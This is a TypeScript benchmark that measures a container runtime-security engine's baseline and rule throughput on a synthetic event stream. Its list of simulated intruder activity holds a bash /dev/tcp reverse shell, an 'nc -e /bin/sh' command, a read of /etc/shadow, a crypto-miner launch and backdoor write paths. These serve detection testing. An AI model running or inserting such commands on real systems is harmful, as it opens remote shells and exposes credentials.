/**
 * The runtime engine alone (issue 9's speed goal): baseline lookups and 20+ rules over a generated
 * stream of 1,000,000 events, at least 1,000,000 events/s per core.
 *
 * The stream: ~50 containers of 10 images (a web server, API services, a worker, a database, a
 * cache, ...), each image with its own programs and argv, written files, destinations, ports and
 * users; exec, exit, connect, accept, listen, open_read, open_write, rename/unlink/chmod, setuid.
 * About 99.5% of the events repeat what the image did while learning; ~0.5% are anomalies (a shell,
 * a package manager, a network tool, a write below /usr/bin or /etc, the metadata address, a new
 * port, root). The event clock runs at 1,000,000 events an hour (~280 events/s on the host).
 *
 * Each pass builds a fresh BaselineEngine (in memory: `new BaselineEngine(null, options)`) with a
 * 3-minute learn window and a 1-minute quiet period, feeds it a learning prefix of normal events
 * (~6 minutes of event time) so every model switches to monitoring, then times the 1,000,000-event
 * monitoring stream through `baseline.observe(ev)` + `rules.evaluate(ev)` (the shipped default rules
 * plus the extra rules of bench/runtime-rules.bench.ts: 21). The floor, timed in the same run over
 * the same 1,000,000 events, is a loop reading two fields of each event (type and time).
 *
 * Prints wall time, events/s, events per CPU-second (process.cpuUsage user + system; the engine is
 * single-threaded, so that is per core), ratio to the floor, anomalies and alerts; median of
 * BENCH_RUNS (default 5) passes after a warm-up pass. PASS when the engine's median events/s/core is
 * at least 1,000,000.
 *
 * Run: node --import tsx bench/runtime-engine.bench.ts      (BENCH_EVENTS, BENCH_RUNS to change)
 * Exit status: 0 goal met, 1 missed, 2 the bench could not run.
 */
import { readFile } from 'node:fs/promises';
import { BaselineEngine, type BaselineOptionsInput } from '../src/runtime/baseline/index.js';
import type { ContainerInfo, RuntimeEvent } from '../src/runtime/events.js';
import { DEFAULT_RULES_FILE, RuleEngine, compileRuleSources } from '../src/runtime/rules/index.js';
import { renderTable } from './support/table.js';
import { seededRandom } from '../test/support/osv-generate.js';
import { benchExtraRules } from './support/runtime-rules.js';

const EVENTS = Math.max(1, Number(process.env['BENCH_EVENTS'] ?? 1_000_000) || 1_000_000);
const RUNS = Math.max(1, Number(process.env['BENCH_RUNS'] ?? 5) || 5);
const PREFIX = 100_000;
const GOAL = 1_000_000;
const ANOMALY_SHARE = 0.005;
/** Event clock: 1,000,000 events an hour. */
const DT_MS = 3.6;
const T0 = 1_700_000_000_000;
const BASELINE_OPTIONS: BaselineOptionsInput = { learnWindowMs: 3 * 60_000, quietPeriodMs: 60_000 };

// The benches' extra rules, with app_ports tuned to this estate's services as an operator would (else every
// normal connection to Kafka, Prometheus exporters or Elasticsearch raises "Unexpected outbound port").
const EXTRA_RULES = benchExtraRules([53, 80, 443, 3000, 5432, 5672, 6379, 8080, 9090, 9092, 9093, 9113, 9121, 9187, 9200]);

interface Exec {
  exe: string;
  args: string[];
  parent: string;
  pexe: string;
}
interface ImageProfile {
  repository: string;
  main: Exec;
  execs: Exec[];
  reads: string[];
  writes: string[];
  connects: Array<[string, number]>;
  listens: number[];
  uid: number;
}

const sh = (exe: string, args: string[], parent: string, pexe: string): Exec => ({ exe, args, parent, pexe });
const PROFILES: ImageProfile[] = [
  {
    repository: 'registry.example/shop/web',
    main: sh('/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/usr/sbin/nginx', ['nginx', '-s', 'reload'], 'nginx', '/usr/sbin/nginx'), sh('/usr/bin/logrotate', ['logrotate', '/etc/logrotate.d/nginx'], 'nginx', '/usr/sbin/nginx')],
    reads: ['/etc/nginx/nginx.conf', '/usr/share/nginx/html/index.html', '/usr/share/nginx/html/app.js', '/etc/ssl/certs/ca-certificates.crt'],
    writes: ['/var/log/nginx/access.log', '/var/log/nginx/error.log', '/var/cache/nginx/proxy_temp/1/00/0000000001', '/run/nginx.pid'],
    connects: [['10.0.1.21', 8080], ['10.0.1.22', 8080], ['10.0.1.23', 3000]],
    listens: [80, 443],
    uid: 0, // the nginx master runs as root (its workers as 101)
  },
  {
    repository: 'registry.example/shop/api',
    main: sh('/usr/local/bin/node', ['node', '--max-old-space-size=512', 'dist/server.js'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/usr/local/bin/node', ['node', 'dist/worker.js', '--queue', 'orders'], 'node', '/usr/local/bin/node'), sh('/usr/bin/git', ['git', 'rev-parse', 'HEAD'], 'node', '/usr/local/bin/node')],
    reads: ['/app/package.json', '/app/dist/server.js', '/app/config/production.json', '/etc/resolv.conf', '/etc/hosts'],
    writes: ['/app/logs/api.log', '/tmp/upload-8f3a9c2e1b7d4a6f/part-17', '/app/.cache/sessions.json'],
    connects: [['10.0.2.10', 5432], ['10.0.2.11', 6379], ['10.0.1.30', 8080], ['93.184.216.34', 443]],
    listens: [8080],
    uid: 1000,
  },
  {
    repository: 'registry.example/shop/checkout',
    main: sh('/usr/bin/java', ['java', '-Xmx768m', '-jar', '/app/checkout.jar', '--server.port=8080'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/usr/bin/jcmd', ['jcmd', '1', 'GC.heap_info'], 'java', '/usr/bin/java')],
    reads: ['/app/checkout.jar', '/app/config/application.yaml', '/usr/lib/jvm/java-17/lib/modules', '/etc/ssl/certs/java/cacerts'],
    writes: ['/app/logs/checkout.log', '/tmp/tomcat.8080.4512/work/x', '/app/data/outbox/msg-991.json'],
    connects: [['10.0.2.10', 5432], ['10.0.3.5', 9092], ['151.101.1.69', 443]],
    listens: [8080, 9090],
    uid: 1001,
  },
  {
    repository: 'registry.example/shop/worker',
    main: sh('/usr/local/bin/python3.11', ['python3', '-m', 'celery', '-A', 'tasks', 'worker', '--concurrency=4'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [
      sh('/usr/bin/convert', ['convert', '/tmp/in-3f2a.png', '-resize', '800x600', '/tmp/out-3f2a.jpg'], 'python3', '/usr/local/bin/python3.11'),
      sh('/usr/bin/ffprobe', ['ffprobe', '-v', 'quiet', '-print_format', 'json', '/data/media/clip-20231102.mp4'], 'python3', '/usr/local/bin/python3.11'),
    ],
    reads: ['/app/tasks.py', '/usr/local/lib/python3.11/site-packages/celery/app/base.py', '/data/media/clip-20231102.mp4'],
    writes: ['/tmp/out-3f2a.jpg', '/data/media/thumbs/clip-20231102.jpg', '/app/celerybeat-schedule'],
    connects: [['10.0.2.11', 6379], ['10.0.2.12', 5672]],
    listens: [],
    uid: 1000,
  },
  {
    repository: 'registry.example/platform/postgres',
    main: sh('/usr/lib/postgresql/15/bin/postgres', ['postgres', '-D', '/var/lib/postgresql/data'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/usr/lib/postgresql/15/bin/postgres', ['postgres: autovacuum worker'], 'postgres', '/usr/lib/postgresql/15/bin/postgres'), sh('/usr/bin/pg_isready', ['pg_isready', '-U', 'postgres', '-h', '127.0.0.1'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2')],
    reads: ['/var/lib/postgresql/data/base/16384/2619', '/var/lib/postgresql/data/postgresql.conf', '/var/lib/postgresql/data/pg_hba.conf'],
    writes: ['/var/lib/postgresql/data/pg_wal/000000010000000000000001', '/var/lib/postgresql/data/base/16384/16390', '/var/lib/postgresql/data/pg_stat_tmp/global.stat'],
    connects: [['127.0.0.1', 5432]],
    listens: [5432],
    uid: 999,
  },
  {
    repository: 'registry.example/platform/redis',
    main: sh('/usr/local/bin/redis-server', ['redis-server', '*:6379', '--appendonly', 'yes'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/usr/local/bin/redis-cli', ['redis-cli', 'ping'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2')],
    reads: ['/usr/local/etc/redis/redis.conf', '/data/appendonly.aof'],
    writes: ['/data/appendonly.aof', '/data/dump.rdb', '/data/temp-1234.rdb'],
    connects: [['127.0.0.1', 6379]],
    listens: [6379],
    uid: 999,
  },
  {
    repository: 'registry.example/platform/kafka',
    main: sh('/usr/bin/java', ['java', '-Xmx1g', '-cp', '/opt/kafka/libs/*', 'kafka.Kafka', '/opt/kafka/config/server.properties'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [sh('/opt/kafka/bin/kafka-topics.sh', ['/bin/bash', '/opt/kafka/bin/kafka-topics.sh', '--list', '--bootstrap-server', 'localhost:9092'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2')],
    reads: ['/opt/kafka/config/server.properties', '/opt/kafka/libs/kafka_2.13-3.6.0.jar', '/var/lib/kafka/data/orders-0/00000000000000000000.index'],
    writes: ['/var/lib/kafka/data/orders-0/00000000000000000000.log', '/var/lib/kafka/data/recovery-point-offset-checkpoint', '/opt/kafka/logs/server.log'],
    connects: [['10.0.3.6', 9093], ['10.0.3.7', 9093]],
    listens: [9092, 9093],
    uid: 1000,
  },
  {
    repository: 'registry.example/ops/prometheus',
    main: sh('/bin/prometheus', ['prometheus', '--config.file=/etc/prometheus/prometheus.yml', '--storage.tsdb.path=/prometheus'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [],
    reads: ['/etc/prometheus/prometheus.yml', '/prometheus/chunks_head/000001'],
    writes: ['/prometheus/wal/00000012', '/prometheus/chunks_head/000002', '/prometheus/queries.active'],
    connects: [['10.0.1.21', 9113], ['10.0.1.30', 9090], ['10.0.2.10', 9187], ['10.0.2.11', 9121]],
    listens: [9090],
    uid: 65534,
  },
  {
    repository: 'registry.example/ops/fluent-bit',
    main: sh('/fluent-bit/bin/fluent-bit', ['/fluent-bit/bin/fluent-bit', '-c', '/fluent-bit/etc/fluent-bit.conf'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [],
    reads: ['/var/log/containers/web-7d9f.log', '/var/log/containers/api-5c2e.log', '/fluent-bit/etc/fluent-bit.conf'],
    writes: ['/fluent-bit/db/tail.db', '/fluent-bit/db/tail.db-wal'],
    connects: [['10.0.4.2', 9200], ['10.0.4.3', 9200]],
    listens: [2020],
    uid: 0,
  },
  {
    repository: 'registry.example/shop/cron',
    main: sh('/usr/sbin/cron', ['cron', '-f'], 'containerd-shim', '/usr/bin/containerd-shim-runc-v2'),
    execs: [
      sh('/usr/local/bin/python3.11', ['python3', '/app/jobs/report.py', '--date', '2023-11-02'], 'cron', '/usr/sbin/cron'),
      sh('/usr/bin/curl', ['curl', '-fsS', '-X', 'POST', 'http://10.0.1.30:8080/internal/reindex'], 'cron', '/usr/sbin/cron'),
    ],
    reads: ['/etc/crontab', '/app/jobs/report.py', '/etc/passwd'],
    writes: ['/app/reports/2023-11-02.csv', '/var/log/cron.log'],
    connects: [['10.0.1.30', 8080], ['10.0.2.10', 5432]],
    listens: [],
    uid: 1000,
  },
];

// What an intruder does: each is new to every model, most also match a rule.
const BAD_EXECS: Exec[] = [
  sh('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'], 'node', '/usr/local/bin/node'),
  sh('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'], 'sh', '/bin/sh'),
  sh('/bin/nc', ['nc', '-e', '/bin/sh', '10.9.9.9', '4444'], 'sh', '/bin/sh'),
  sh('/bin/sh', ['sh', '-c', 'id; cat /etc/shadow'], 'java', '/usr/bin/java'),
  sh('/tmp/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1'], 'sh', '/bin/sh'),
];
const BAD_WRITES = ['/usr/bin/evil', '/etc/cron.d/backdoor', '/root/.ssh/authorized_keys', '/usr/lib/x86_64-linux-gnu/libpam.so.0'];
const BAD_CONNECTS: Array<[string, number]> = [['169.254.169.254', 80], ['10.96.0.1', 6443], ['203.0.113.50', 4444]];

interface Container {
  info: ContainerInfo;
  profile: ImageProfile;
  mainPid: number;
}

function containers(): Container[] {
  const out: Container[] = [];
  // ~50 containers: replicas per image 3..8 (web and api most).
  const replicas = [8, 8, 6, 6, 3, 3, 3, 3, 5, 5];
  let n = 0;
  PROFILES.forEach((profile, i) => {
    const imageId = `sha256:${(i + 1).toString(16).padStart(2, '0').repeat(32)}`;
    for (let r = 0; r < replicas[i]!; r++, n++) {
      const id = (0xa000 + n).toString(16).repeat(16);
      const name = `${profile.repository.split('/').pop()!}-${r + 1}`;
      out.push({ info: { id, name, imageRepository: profile.repository, imageTag: '1.4.2', imageId }, profile, mainPid: 1000 + n * 100 });
    }
  });
  return out;
}

/** Events as sensors build them: one object literal per event, parts assigned after (see runtime-rules.bench.ts). */
function generate(n: number, seed: number, t0: number, anomalies: boolean): RuntimeEvent[] {
  const r = seededRandom(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const cs = containers();
  // Busier images get more events: the first containers (web, api) more often.
  const out: RuntimeEvent[] = new Array<RuntimeEvent>(n);
  for (let i = 0; i < n; i++) {
    const c = cs[Math.floor(Math.pow(r(), 1.3) * cs.length)]!;
    const p = c.profile;
    const bad = anomalies && r() < ANOMALY_SHARE;
    const time = t0 + Math.floor(i * DT_MS);
    const pid = c.mainPid + 1 + Math.floor(r() * 90);
    const name = p.main.args[0]!.split('/').pop()!;
    const mainProc = (): NonNullable<RuntimeEvent['proc']> => ({ pid, ppid: c.mainPid, name, exepath: p.main.exe, args: p.main.args.slice(), pname: p.main.parent, pexepath: p.main.pexe, uid: p.uid });
    const kind = r();
    let ev: RuntimeEvent;
    if (kind < 0.18) {
      const x = bad ? pick(BAD_EXECS) : p.execs.length > 0 && r() < 0.8 ? pick(p.execs) : p.main;
      const xname = x.exe.split('/').pop()!;
      ev = { time, type: 'exec', sensor: 'synthetic', proc: { pid, ppid: c.mainPid, name: xname, exepath: x.exe, args: x.args.slice(), pname: x.parent, pexepath: x.pexe, uid: bad && r() < 0.5 ? 0 : p.uid, tty: false } };
    } else if (kind < 0.3) {
      ev = { time, type: 'exit', sensor: 'synthetic', proc: { pid, ppid: c.mainPid, name, exepath: p.main.exe } };
    } else if (kind < 0.5) {
      ev = { time, type: 'open_read', sensor: 'synthetic', proc: mainProc(), file: { path: bad ? '/etc/shadow' : pick(p.reads) } };
    } else if (kind < 0.66) {
      ev = { time, type: 'open_write', sensor: 'synthetic', proc: mainProc(), file: { path: bad ? pick(BAD_WRITES) : pick(p.writes) } };
    } else if (kind < 0.7) {
      const path = pick(p.writes);
      const t = pick(['rename', 'unlink', 'chmod'] as const);
      ev = { time, type: t, sensor: 'synthetic', proc: mainProc(), file: { path } };
      if (t === 'rename') ev.file!.target = path + '.1';
      if (t === 'chmod') ev.file!.mode = 0o644;
    } else if (kind < 0.92 && (p.connects.length > 0 || bad)) {
      const [dip, dport] = bad ? pick(BAD_CONNECTS) : pick(p.connects);
      const outbound = bad || r() < 0.85;
      ev = { time, type: outbound ? 'connect' : 'accept', sensor: 'synthetic', proc: mainProc(), net: { protocol: 'tcp', sip: `172.17.${c.mainPid % 200}.2`, sport: 32768 + (i % 28000), dip, dport } };
    } else if (kind < 0.95 && (p.listens.length > 0 || bad)) {
      ev = { time, type: 'listen', sensor: 'synthetic', proc: mainProc(), net: { protocol: 'tcp', sip: '0.0.0.0', sport: bad ? pick([22, 4444, 31337]) : pick(p.listens) } };
    } else if (kind < 0.96 && bad) {
      ev = { time, type: 'setuid', sensor: 'synthetic', proc: mainProc(), arg: 0 };
    } else {
      // Idle housekeeping: the main program re-reading its config.
      ev = { time, type: 'open_read', sensor: 'synthetic', proc: mainProc(), file: { path: p.reads[0]! } };
    }
    ev.container = c.info;
    out[i] = ev;
  }
  return out;
}

interface Pass {
  wallMs: number;
  cpuMs: number;
  anomalies: number;
  alerts: number;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

function learned(prefix: RuntimeEvent[]): BaselineEngine {
  const b = new BaselineEngine(null, BASELINE_OPTIONS);
  let raised = 0;
  for (const ev of prefix) raised += b.observe(ev).length;
  const notMonitoring = b.status().filter((m) => m.state !== 'monitoring');
  if (notMonitoring.length > 0 || raised > 0) {
    throw new Error(`learning prefix: ${notMonitoring.length} models still learning, ${raised} anomalies raised (expected 0 and 0)`);
  }
  return b;
}

function timeEngine(prefix: RuntimeEvent[], stream: RuntimeEvent[], rules: RuleEngine): Pass {
  const baseline = learned(prefix);
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  let anomalies = 0;
  let alerts = 0;
  for (let i = 0; i < stream.length; i++) {
    const ev = stream[i]!;
    anomalies += baseline.observe(ev).length;
    alerts += rules.evaluate(ev).length;
  }
  const wallMs = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  return { wallMs, cpuMs: (cpu.user + cpu.system) / 1000, anomalies, alerts };
}

/** One half of the engine alone (context rows). */
function timeHalf(prefix: RuntimeEvent[], stream: RuntimeEvent[], rules: RuleEngine, half: 'baseline' | 'rules'): Pass {
  const baseline = learned(prefix);
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  let n = 0;
  if (half === 'baseline') for (let i = 0; i < stream.length; i++) n += baseline.observe(stream[i]!).length;
  else for (let i = 0; i < stream.length; i++) n += rules.evaluate(stream[i]!).length;
  const wallMs = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  return { wallMs, cpuMs: (cpu.user + cpu.system) / 1000, anomalies: n, alerts: n };
}

function timeFloor(stream: RuntimeEvent[]): Pass {
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  let acc = 0;
  for (let i = 0; i < stream.length; i++) {
    const ev = stream[i]!;
    if (ev.type === 'exec') acc++;
    acc += ev.time & 1;
  }
  const wallMs = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  return { wallMs, cpuMs: (cpu.user + cpu.system) / 1000, anomalies: acc, alerts: 0 };
}

async function main(): Promise<number> {
  const started = performance.now();
  const rules = new RuleEngine(
    compileRuleSources([
      { file: DEFAULT_RULES_FILE, text: await readFile(DEFAULT_RULES_FILE, 'utf8') },
      { file: 'bench-extra.yaml', text: EXTRA_RULES },
    ]),
  );
  if (rules.rules.length < 20) throw new Error(`only ${rules.rules.length} rules compiled`);
  const g0 = performance.now();
  const prefix = generate(PREFIX, 7, T0, false);
  const stream = generate(EVENTS, 9, T0 + PREFIX * DT_MS, true);
  const genMs = performance.now() - g0;
  const types = new Map<string, number>();
  for (const ev of stream) types.set(ev.type, (types.get(ev.type) ?? 0) + 1);

  // Warm-up pass (JIT), not counted.
  timeEngine(prefix, stream, rules);
  timeFloor(stream);
  timeHalf(prefix, stream, rules, 'baseline');
  timeHalf(prefix, stream, rules, 'rules');
  const floor: Pass[] = [];
  const eng: Pass[] = [];
  const baseOnly: Pass[] = [];
  const rulesOnly: Pass[] = [];
  for (let run = 0; run < RUNS; run++) {
    floor.push(timeFloor(stream));
    eng.push(timeEngine(prefix, stream, rules));
    baseOnly.push(timeHalf(prefix, stream, rules, 'baseline'));
    rulesOnly.push(timeHalf(prefix, stream, rules, 'rules'));
  }
  const stats = (passes: Pass[]): { wall: number; cpu: number; perCore: number } => {
    const wall = median(passes.map((p) => p.wallMs));
    const cpu = median(passes.map((p) => p.cpuMs));
    return { wall, cpu, perCore: EVENTS / (Math.max(cpu, 0.001) / 1000) };
  };
  const f = stats(floor);
  const e = stats(eng);
  const bo = stats(baseOnly);
  const ro = stats(rulesOnly);
  const ctx = (name: string, x: { wall: number; cpu: number; perCore: number }): string[] => [
    name, `${(x.wall / 1000).toFixed(3)} s`, `${(x.cpu / 1000).toFixed(3)} s`, fmt(EVENTS / (x.wall / 1000)), fmt(x.perCore), `${((x.wall * 1e6) / EVENTS).toFixed(0)} ns`, `${(x.wall / f.wall).toFixed(1)}x`, '', '',
  ];
  const fmt = (n: number): string => Math.round(n).toLocaleString('en-US');
  const pass = e.perCore >= GOAL;
  const models = learned(prefix).status();
  const share = [...types].sort((a, b) => b[1] - a[1]).map(([t, c]) => `${t} ${((100 * c) / EVENTS).toFixed(1)}%`).join(', ');
  process.stdout.write(
    `${fmt(EVENTS)} monitoring events (${share}), ${models.length} images / ${containers().length} containers, ` +
      `learning prefix ${fmt(PREFIX)} events; ${rules.rules.length} rules; median of ${RUNS} passes after a warm-up\n\n` +
      renderTable(
        ['pass', 'wall', 'CPU', 'events/s', 'events/s/core (CPU)', 'per event', 'vs floor', 'goal', 'result'],
        [
          ['floor: read type + time of each event', `${(f.wall / 1000).toFixed(3)} s`, `${(f.cpu / 1000).toFixed(3)} s`, fmt(EVENTS / (f.wall / 1000)), fmt(f.perCore), `${((f.wall * 1e6) / EVENTS).toFixed(0)} ns`, '1.00x', '', ''],
          [
            `baseline.observe + rules.evaluate (${rules.rules.length} rules)`,
            `${(e.wall / 1000).toFixed(3)} s`,
            `${(e.cpu / 1000).toFixed(3)} s`,
            fmt(EVENTS / (e.wall / 1000)),
            fmt(e.perCore),
            `${((e.wall * 1e6) / EVENTS).toFixed(0)} ns`,
            `${(e.wall / f.wall).toFixed(1)}x`,
            `>= ${fmt(GOAL)}/s/core`,
            pass ? 'PASS' : 'FAIL',
          ],
          ctx('  context: baseline.observe alone', bo),
          ctx(`  context: rules.evaluate alone`, ro),
        ],
      ) +
      `\n\nper pass: ${fmt(eng[0]!.anomalies)} baseline anomalies, ${fmt(eng[0]!.alerts)} rule alerts ` +
      `(${(ANOMALY_SHARE * 100).toFixed(1)}% of events generated as intrusions)\n` +
      `models after the prefix: ${models.map((m) => `${m.imageRepository?.split('/').pop()} ${m.state} (${Object.values(m.items).reduce((a, b) => a + b, 0)} items)`).join(', ')}\n` +
      `engine passes (wall ms): ${eng.map((p) => p.wallMs.toFixed(0)).join(', ')}\n` +
      `generation ${(genMs / 1000).toFixed(1)} s; bench wall time ${((performance.now() - started) / 1000).toFixed(1)} s; load average ${(await readFile('/proc/loadavg', 'utf8')).split(' ').slice(0, 3).join(' ')}\n`,
  );
  return pass ? 0 : 1;
}

main().then(
  (code) => process.exit(code),
  (e: unknown) => {
    process.stderr.write(`bench could not run: ${e instanceof Error ? e.stack : String(e)}\n`);
    process.exit(2);
  },
);
